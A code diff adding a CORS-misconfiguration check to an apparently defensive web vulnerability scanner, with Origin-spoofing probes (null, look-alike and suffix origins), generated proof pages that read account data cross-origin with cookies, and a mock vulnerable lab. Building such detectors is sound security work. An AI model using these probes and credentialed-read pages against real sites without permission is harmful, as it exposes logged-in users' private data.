@@ -1,0 +1,203 @@
+import { CALLBACK } from '../../../browser/visit.ts';
+import type { InventoryItem } from '../../../crawl/inventory/inventory.ts';
+import { requestOf } from '../../../crawl/requests/write-request.ts';
+import type { Exchange } from '../../../http/exchange/exchange.ts';
+import { headerOf } from '../../../http/exchange/headers.ts';
+import { isSame } from '../../../oracle/compare.ts';
+import { compareAll, isGiven, privateKeysOf, shows } from '../../../oracle/private-content.ts';
+import { type Asking, defineSiteCheck, type Known, type Nonce, type Site } from '../../define-active-check.ts';
+import type { PointRequest } from '../../insertion-point.ts';
+import { freshly, marksOf, readsOnly } from '../../shared/accounts.ts';
+
+/** What calls itself by another name than the site. */
+type Way = 'stranger' | 'null' | 'below a stranger' | 'ends alike' | 'ends like a partner';
+
+interface Variant {
+  way: Way;
+  item?: InventoryItem;
+  /** A site that this one leads to, and may trust. */
+  partner?: string | undefined;
+}
+
+const LABELS = {
+  account: 'as the account, on the site itself',
+  foreign: 'as a browser asks for a page of another site, with the cookies of the account',
+  nobody: 'the same without cookies',
+} as const;
+const READ = 'a page of another site that reads it, in the browser';
+const MOST_READ = 100;
+
+/** Calls back with the beginning of what it was able to read. */
+function readingPage(url: string, word: string): string {
+  return `<script>${reading(url, word, `${CALLBACK}(text)`)}</script>`;
+}
+
+/** The same from a frame whose origin is nobody's: it tells the page, and the page calls. */
+function namelessPage(url: string, word: string): string {
+  const frame = `<script>${reading(url, word, "parent.postMessage(text, '*')")}</script>`;
+  return `<iframe id="frame" sandbox="allow-scripts"></iframe><script>
+    addEventListener('message', ({ data }) => ${CALLBACK}(data));
+    document.getElementById('frame').srcdoc = ${JSON.stringify(frame).replaceAll('<', '\\u003c')};
+  </script>`;
+}
+
+const reading = (url: string, word: string, tell: string) => `
+    const asking = new XMLHttpRequest();
+    asking.withCredentials = true;
+    asking.onload = () => {
+      const text = '${word}' + asking.responseText.slice(0, ${MOST_READ});
+      ${tell};
+    };
+    asking.open('GET', ${JSON.stringify(url).replaceAll('<', '\\u003c')});
+    asking.send();`;
+
+/** Those whose answers say that they look at where a request comes from, and a few others. */
+const MOST_ITEMS = 12;
+const MOST_WITHOUT_HINT = 3;
+
+function foreignOrigin({ way, partner = '' }: Variant, url: string, { word }: Pick<Nonce, 'word'>): string {
+  const { protocol, hostname } = new URL(url);
+  const origins: Record<Way, string> = {
+    stranger: `${protocol}//${word}.example`,
+    null: 'null',
+    'below a stranger': `${protocol}//${hostname}.${word}.example`,
+    'ends alike': `${protocol}//${word}${hostname}`,
+    'ends like a partner': `${protocol}//${word}${partner}`,
+  };
+  return origins[way];
+}
+
+/** What programs read comes first: pages are seldom meant for other sites. */
+function candidatesAt({ origin }: Site, { inventory }: Known): InventoryItem[] {
+  const items = inventory.filter(
+    (item) => item.url.startsWith(`${origin}/`) && item.method === 'GET' && item.seenAs !== null && readsOnly(item),
+  );
+  const isHinted = (item: InventoryItem) => item.hints?.includes('origin') ?? false;
+  const others = items
+    .filter((item) => !isHinted(item))
+    .toSorted((a, b) => Number(/html/i.test(a.contentType)) - Number(/html/i.test(b.contentType)));
+  return [...items.filter(isHinted).slice(0, MOST_ITEMS), ...others.slice(0, MOST_WITHOUT_HINT)];
+}
+
+/** Another site that addresses of this one name. */
+function partnerOf({ origin }: Site, { inventory }: Known): string | undefined {
+  const values = inventory.flatMap(({ parameters }) => parameters.map(({ value }) => value));
+  const hosts = values.filter((value) => /^https?:/.test(value)).map((value) => URL.parse(value)?.hostname ?? '');
+  return hosts.find((host) => host.includes('.') && host !== new URL(origin).hostname);
+}
+
+function fromElsewhere(item: InventoryItem, origin: string): PointRequest {
+  const request = freshly(requestOf(item));
+  return { ...request, headers: [...(request.headers ?? []), ['Origin', origin]] };
+}
+
+/** Whether a browser lets a page of that origin read the answer to a request with cookies. */
+function mayRead({ response }: Pick<Exchange, 'response'>, origin: string): boolean {
+  const header = (name: string) => headerOf(response?.headers ?? [], name)?.trim();
+  return header('access-control-allow-origin') === origin && header('access-control-allow-credentials') === 'true';
+}
+
+/** For each way in which another site may read with cookies the first place. */
+async function findAll(site: Site, ways: readonly Way[], nonce: Nonce, asking: Asking): Promise<Variant[]> {
+  const found = new Map<Way, Variant>();
+  const partner = partnerOf(site, asking.known);
+  for (const item of candidatesAt(site, asking.known)) {
+    // Nobody who is logged out just now has anything that another site could use.
+    if ((await asking.credentialsOf(item.seenAs ?? '', item.url)).length === 0) continue;
+    for (const way of ways.filter((each) => mayBeSent(each, item, partner))) {
+      const variant = { way, item, partner };
+      const origin = foreignOrigin(variant, item.url, nonce);
+      const exchange = await asking.ask(fromElsewhere(item, origin), item.seenAs);
+      const isReadable = mayRead(exchange, origin);
+      if (isReadable && !found.has(way)) found.set(way, variant);
+      if (isReadable) break;
+    }
+  }
+  return [...found.values()];
+}
+
+const mayBeSent = (way: Way, { url }: InventoryItem, partner: string | undefined) =>
+  way === 'ends like a partner' ? partner !== undefined : way !== 'ends alike' || /[a-z]$/i.test(new URL(url).hostname);
+
+export default defineSiteCheck<Variant>({
+  id: 'cors-credentials',
+  title: 'CORS misconfiguration: foreign sites can read account data',
+  cwe: 942,
+  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:N/A:N',
+  why: "The target allows foreign origins to send requests with the visitor's cookies and to read the response. An attacker who lures a logged-in user to a prepared page reads their data. The response to a foreign origin contained the account's data, together with Access-Control-Allow-Credentials: true.",
+  fix: 'Compare the Origin header with an allowlist of complete origins (no prefix, suffix or substring match), and do not allow null. Send Access-Control-Allow-Credentials only where it is needed. Set SameSite=Lax or Strict on session cookies.',
+  references: [
+    'https://cheatsheetseries.owasp.org/cheatsheets/HTML5_Security_Cheat_Sheet.html',
+    'https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/11-Client-side_Testing/07-Testing_Cross_Origin_Resource_Sharing',
+    'https://cwe.mitre.org/data/definitions/942.html',
+  ],
+  risk: 'harmless',
+  needsBrowser: 'if possible',
+  appliesTo: (site, known) => candidatesAt(site, known).length > 0,
+  variants: (['stranger', 'null', 'below a stranger', 'ends alike', 'ends like a partner'] as const).map((way) => ({
+    way,
+  })),
+  probe(site, nonce, asking) {
+    return findAll(
+      site,
+      this.variants.map(({ way }) => way),
+      nonce,
+      asking,
+    );
+  },
+  maxRequests: 120,
+  placeOf: ({ origin }, { item }) => item?.url ?? origin,
+  proof: {
+    plan(_site, variant, nonce) {
+      const { way, item } = variant;
+      if (!item) return [];
+      const origin = foreignOrigin(variant, item.url, nonce);
+      const request = fromElsewhere(item, origin);
+      const isNameless = way === 'null';
+      const page = isNameless ? `${new URL(item.url).protocol}//${nonce.word}.example` : origin;
+      const html = (isNameless ? namelessPage : readingPage)(item.url, nonce.word);
+      const fromPage = { url: `${page}/`, html, awaited: nonce.word };
+      return [
+        { label: LABELS.account, request: freshly(requestOf(item)), as: item.seenAs },
+        // Which cookies go along is for them to say (SameSite), and tokens that scripts add do not.
+        { label: LABELS.foreign, request, as: item.seenAs, showing: { isCrossSite: true } },
+        { label: LABELS.nobody, request, as: null },
+        { label: READ, request, as: item.seenAs, fromPage, isOptional: true },
+      ];
+    },
+    judge(answers, variant, nonce, _site, known) {
+      const { item } = variant;
+      const compared = compareAll(answers, LABELS);
+      const read = answers.get(LABELS.foreign);
+      if (!compared || !read || !item) return 'VOID';
+      const { account, foreign, nobody } = compared;
+      if (!isGiven(account)) return 'VOID';
+      if (!mayRead(read, foreignOrigin(variant, item.url, nonce))) return 'REFUTED';
+      const marks = marksOf(known, item.seenAs).filter(
+        (mark) => shows(foreign.text, mark) && !shows(nobody.text, mark),
+      );
+      const isTheirs = isGiven(foreign) && !isSame(foreign, nobody) && (isSame(foreign, account) || marks.length > 0);
+      const calls = answers.get(READ)?.calls;
+      const isRead = calls?.includes(nonce.word + foreign.text.slice(0, MOST_READ));
+      // The browser has the last word, where there is one.
+      if (!isTheirs || isRead === false) return 'REFUTED';
+      const isPrivate = marks.length > 0 || privateKeysOf(foreign.text).length > 0;
+      return isPrivate && isRead ? 'PROVED' : 'LIKELY';
+    },
+  },
+  lab() {
+    const cookie = (account: string, attributes: string) => ({ 'set-cookie': `sid=${account}; Path=/; ${attributes}` });
+    const answer = (headers: Readonly<Record<string, string>>, account: string | null, attributes: string) => {
+      const who = account ?? /sid=(\w+)/.exec(headers.cookie ?? '')?.[1];
+      const cors = { 'access-control-allow-origin': headers.origin ?? '*', 'access-control-allow-credentials': 'true' };
+      if (who === undefined) return { status: 401, headers: cors, body: '{"error":"log in first"}' };
+      return { headers: { ...cors, ...cookie(who, attributes) }, body: `{"email":"${who}@shop.test"}` };
+    };
+    return {
+      item: { method: 'GET', url: '/me', parameters: [], seenAs: 'alice', contentType: 'application/json' },
+      vulnerable: ({ headers, account }) => answer(headers, account, 'SameSite=None; Secure'),
+      // Says yes to everybody as well, but the cookie stays at home.
+      safe: ({ headers, account }) => answer(headers, account, 'SameSite=Lax'),
+    };
+  },
+});
